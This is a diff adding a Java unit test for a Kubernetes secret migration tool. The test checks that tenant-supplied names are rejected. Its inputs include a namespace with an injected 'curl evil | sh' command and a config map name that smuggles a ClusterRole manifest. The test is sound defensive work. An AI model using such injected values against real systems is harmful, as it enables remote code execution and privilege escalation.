@@ -215,4 +215,22 @@ class MigrateCommandTest {
     assertThat(run.status()).isEqualTo(2);
     assertThat(run.err()).contains("there is no InfisicalSecret in", "correct -f");
   }
+
+  @Test
+  void printsNoCommandWithWhatATenantWroteInPlaceOfAName() {
+    String hostile =
+        UNIVERSAL
+            .replace("secretNamespace: other", "secretNamespace: 'other; curl evil | sh #'")
+            .replace("configMapName: app", "configMapName: \"app\\n---\\nkind: ClusterRole\"");
+
+    CommandRun run = CommandRun.with(hostile, "doctor", "migrate", "-f", "-");
+
+    assertThat(run.status()).isOne();
+    assertThat(run.out())
+        .contains(
+            "# - Secret other; curl evil | sh #/copy: name or namespace of the target is not valid;"
+                + " correct it")
+        .doesNotContain("kubectl")
+        .doesNotContain("\nkind: ClusterRole");
+  }
 }
